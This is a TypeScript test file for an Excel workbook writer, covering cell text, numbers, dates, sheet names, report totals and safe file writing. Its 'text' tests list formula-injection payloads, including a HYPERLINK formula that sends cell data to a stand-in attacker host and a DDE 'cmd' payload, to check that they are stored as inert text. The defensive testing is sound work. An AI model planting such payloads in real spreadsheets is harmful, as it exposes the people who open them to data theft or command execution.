// One cell at a time: what may stand in it, what it becomes, and what is refused.
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { workbookBytes, writeWorkbook } from '../../src-main/excel/write.ts';
import { serialOf } from '../../src-main/excel/writing/cell-xml.ts';
import { safeSheetNames } from '../../src-main/excel/writing/sheet-names.ts';
import { tableToWorkbook } from '../../src-main/reports/workbooks/report-workbook.ts';
import type { SpecCell, SpecRow, SpecSheet, WorkbookSpec } from '../../src-main/reports/workbooks/spec.ts';
import { lastingFolder } from '../support/folders/lasting-folder.ts';
import { type PlainWorkbook, plainWorkbook } from '../support/workbook-cells.ts';
import { partsOf } from '../support/workbook-parts.ts';

const folder = lastingFolder();

function workbook(rows: Iterable<SpecRow>, sheet: Partial<SpecSheet> = {}): WorkbookSpec {
  return {
    title: 'T',
    subject: 'S',
    author: 'A',
    date: '2026-01-31',
    sheets: [{ name: 'Cells', columns: [], rows, ...sheet }],
  };
}

let written = 0;
async function cellsOf(
  ...cells: (SpecCell | null)[]
): Promise<Map<string, { value: unknown; format: string }>> {
  const path = join(folder, `cells-${++written}.xlsx`);
  writeFileSync(path, await workbookBytes(workbook([cells])));
  return (await plainWorkbook(path)).get('Cells')!;
}
const cellValue = async (cell: SpecCell): Promise<unknown> => (await cellsOf(cell)).get('A1')?.value;

describe('text', () => {
  // Injection: what a spreadsheet would run if it were taken for a formula; and what XML or Excel would mangle.
  const hostile = [
    '=1+1',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '+49 30 1234',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1:9)',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    '00123',
    '12345678901234567890',
    '1E5',
    'TRUE',
    '#REF!',
    '2026-01-31',
    ' leading and trailing ',
    'two\nlines',
    '<b>&amp;"quoted"</b>',
    '_x0041_ stays',
    '_x005F_x0041_',
    'bell \u0007 and \u0000 nul',
    'carriage\rreturn',
    '日本語 žluťoučký кириллица 🙂',
    "o'brien",
    ']]>',
  ];
  test.each(hostile)('%j stays what it is', async (text) => {
    const cells = await cellsOf({ value: text, format: 'text' });
    // ExcelJS does not read the _xHHHH_ that stand for characters XML cannot hold; a spreadsheet program does.
    const shown = String(cells.get('A1')?.value).replace(/_x([0-9A-F]{4})_/g, (_, hex: string) =>
      String.fromCharCode(Number.parseInt(hex, 16)),
    );
    expect(shown).toBe(text);
    expect(cells.get('A1')?.format).toBe('@');
    const xml = partsOf(join(folder, `cells-${written}.xlsx`)).get('xl/worksheets/sheet1.xml')!;
    expect(xml).toContain('t="inlineStr"');
    expect(xml).not.toContain('<f>');
  });

  test('half a surrogate pair becomes the mark for it', async () => {
    expect(await cellValue({ value: 'a\ud83d', format: 'text' })).toBe('a\ufffd');
  });

  test('more than a cell holds is cut and says so', async () => {
    const value = String(await cellValue({ value: 'x'.repeat(40_000), format: 'text' }));
    expect(value).toHaveLength(32_767);
    expect(value).toMatch(/x… \[cut|x … \[cut: a cell holds 32 767 characters\]$/);
  });

  test('formulas of ours escape what is in them', async () => {
    const cell: SpecCell = { value: 'OK', format: 'flag', formula: 'IF(1<2,"OK","A&B")' };
    const cells = await cellsOf(cell);
    expect(cells.get('A1')).toMatchObject({ value: 'OK', formula: 'IF(1<2,"OK","A&B")' });
  });
});

describe('numbers', () => {
  test.each([
    ['12.50', 12.5],
    ['-0.01', -0.01],
    ['0', 0],
    ['123456789012345', 123_456_789_012_345],
    ['1234567890123.45', 1_234_567_890_123.45],
    ['1000000000000000000', 1e18],
  ])('%s is a number', async (value, number) => {
    expect(await cellValue({ value, format: 'amount' })).toBe(number);
  });

  test.each(['1234567890123456', '12345678901234.567', '-999999999999999.99'])(
    '%s has too many digits and stays text',
    async (value) => {
      expect(await cellValue({ value, format: 'amount' })).toBe(value);
      expect(await cellValue({ value, format: 'amount', formula: 'SUM(B1:B2)' })).toBe(value);
    },
  );

  test.each(['NaN', 'Infinity', '-Infinity', '1e5', '', '1,000', '0x10', '12.', ' 1', 'undefined'])(
    '%j is refused',
    async (value) => {
      await expect(cellValue({ value, format: 'amount' })).rejects.toThrow(TypeError);
    },
  );

  test('a formula without a result is refused', async () => {
    await expect(cellValue({ value: null, format: 'amount', formula: 'SUM(A1:A2)' })).rejects.toThrow(
      'formula without a result',
    );
  });

  test('amounts show the places they are written with', async () => {
    const cells = await cellsOf(
      { value: '1', format: 'amount' },
      { value: '1.250', format: 'amount' },
      { value: '0.123456', format: 'number' },
      { value: '0.125', format: 'percent' },
    );
    expect([...cells.values()].map(({ format }) => format)).toEqual([
      '#,##0_);(#,##0);"–"_)',
      '#,##0.000_);(#,##0.000);"–"_.???_)',
      '#,##0.000000_)',
      '0.0%_)',
    ]);
  });
});

describe('dates', () => {
  test.each([
    ['2026-01-31', 'date', '46053'],
    ['1900-03-01', 'date', '61'],
    ['9999-12-31', 'date', '2958465'],
    ['2026-02', 'month', '46054'],
    ['2026-01-31T12:00', 'time', '46053.5'],
    ['2026-01-31T22:59:59.999Z', 'time', '46053.95833332176'],
  ])('%s is day %s', (value, format, serial) => {
    expect(serialOf(value, format)).toBe(serial);
  });

  test.each([
    ['1900-02-28', 'date'],
    ['2026-02-30', 'date'],
    ['soon', 'date'],
    ['2026-13', 'month'],
    ['2026-01-31T99', 'time'],
  ] as const)('%s stays text', async (value, format) => {
    expect(await cellValue({ value, format })).toBe(value);
  });
});

describe('sheets', () => {
  test('names are made safe and unique', () => {
    expect(
      safeSheetNames([
        'Lots',
        'lots',
        'A/B:C*?[x]',
        "'quoted'",
        'History',
        '',
        'x'.repeat(40),
        'x'.repeat(35),
      ]),
    ).toEqual([
      'Lots',
      'lots (2)',
      'A-B-C--x-'.replace('--x-', '---x-'),
      '’quoted’',
      'History_',
      'Sheet',
      'x'.repeat(31),
      `${'x'.repeat(26)} (2)`,
    ]);
  });

  const rows = (count: number): SpecRow[] => [
    [{ value: 'Number', format: 'count', role: 'header' }],
    ...Array.from({ length: count }, (_, n): SpecRow => [{ value: String(n + 1), format: 'count' }]),
  ];

  test('a long sheet goes on in the next, with its heading', async () => {
    const path = join(folder, 'long.xlsx');
    writeFileSync(
      path,
      await workbookBytes(workbook(rows(25), { repeatHeading: 1, printTitles: [1, 1] }), { sheetRows: 11 }),
    );
    const sheets = await plainWorkbook(path);
    expect([...sheets.keys()]).toEqual(['Cells', 'Cells (2)', 'Cells (3)']);
    const columns = [...sheets.values()].map((cells) => [...cells.values()].map(({ value }) => value));
    expect(columns.map((column) => [column.length, column[0], column[1], column.at(-1)])).toEqual([
      [11, 'Number', 1, 10],
      [11, 'Number', 11, 20],
      [6, 'Number', 21, 25],
    ]);
  });

  test('a sheet with formulas over its rows is not cut in two', async () => {
    await expect(workbookBytes(workbook(rows(25)), { sheetRows: 11 })).rejects.toThrow('more than 11 rows');
  });

  test('columns are as wide as what they show', async () => {
    const wide: SpecRow[] = [
      [{ value: 'A very long title that runs over the cells beside it', format: 'text', role: 'title' }],
      [
        { value: '1234567890.12', format: 'amount' },
        { value: 'y'.repeat(200), format: 'text' },
        { value: 'é', format: 'text' },
      ],
    ];
    const xml = partsOf(await workbookBytes(workbook(wide))).get('xl/worksheets/sheet1.xml')!;
    const widths = [...xml.matchAll(/ width="([\d.]+)"/g)].map(([, width]) => Number(width));
    expect(widths[0]).toBeGreaterThan(15);
    expect(widths[0]).toBeLessThan(24);
    expect(widths.slice(1)).toEqual([60, 6]);
  });

  test('a footer may hold any text', async () => {
    const spec = workbook([[]], { footer: 'R&D "Ltd" <x> 2026' });
    const xml = partsOf(await workbookBytes(spec)).get('xl/worksheets/sheet1.xml')!;
    expect(xml).toContain('&amp;L&amp;8R&amp;&amp;D &quot;Ltd&quot; &lt;x&gt; 2026&amp;R');
  });
});

describe('reports', () => {
  const columns = [
    { key: 'customer', title: 'Customer', type: 'text' },
    { key: 'amount', title: 'Amount', type: 'money', sum: true },
    { key: 'currency', title: 'Currency', type: 'text' },
    { key: 'at', title: 'At', type: 'instant' },
  ] as const;
  const about = { author: 'Book', scope: 'through 2026-01', date: '2026-01-31' };
  const make = async (rows: readonly (readonly (string | null)[])[]): Promise<PlainWorkbook> => {
    const path = join(folder, `report-${++written}.xlsx`);
    await writeWorkbook(tableToWorkbook({ name: 'r', title: 'Report', columns, rows }, about), path);
    return plainWorkbook(path);
  };
  const when = '2026-01-31T22:59:59.999Z';

  test('a column of one unit has a total', async () => {
    const cells = (
      await make([
        ['a', '1.10', 'EUR', when],
        ['b', null, null, null],
        ['c', '2.20', 'EUR', when],
      ])
    ).get('Report')!;
    expect(cells.get('B8')).toMatchObject({ value: 3.3, formula: 'SUBTOTAL(109,B5:B7)' });
    expect(cells.get('A8')?.value).toBe('Total');
    expect(cells.get('D4')?.value).toBe('At (UTC)');
    expect(cells.get('D5')?.value).toBe('date 2026-01-31T22:59:59.999Z');
  });

  test.each([
    [
      'two units',
      [
        ['a', '1.10', 'EUR', when],
        ['b', '2', 'JPY', when],
      ],
    ],
    ['no rows', []],
    ['no values', [['a', null, null, null]]],
  ])('no total with %s', async (_, rows) => {
    const cells = (await make(rows)).get('Report')!;
    expect([...cells.values()].map(({ value }) => value)).not.toContain('Total');
  });
});

describe('files', () => {
  test('a file that cannot be written is a finding, and nothing is left behind', async () => {
    const place = join(folder, 'taken.xlsx');
    mkdirSync(place);
    const result = await writeWorkbook(workbook([[]]), place);
    expect(result).toMatchObject({
      ok: false,
      findings: [{ code: 'file_in_use', place: { file: 'taken.xlsx' } }],
    });
    const missing = await writeWorkbook(workbook([[]]), join(folder, 'nowhere', 'x.xlsx'));
    expect(missing).toMatchObject({ ok: false, findings: [{ code: 'file_in_use' }] });
    expect(() => readFileSync(`${place}.part`)).toThrow('ENOENT');
    rmSync(place, { recursive: true });
  });

  test('stopping on the way leaves what was there before', async () => {
    const path = join(folder, 'kept.xlsx');
    writeFileSync(path, 'before');
    const many = Array.from({ length: 30_000 }, (_, n): SpecRow => [{ value: `row ${n}`, format: 'text' }]);
    const stop = writeWorkbook(workbook(many), path, {
      onRows: () => {
        throw new Error('stopped');
      },
    });
    await expect(stop).rejects.toThrow('stopped');
    expect(readFileSync(path, 'utf8')).toBe('before');
    expect(() => readFileSync(`${path}.part`)).toThrow('ENOENT');
  });
});
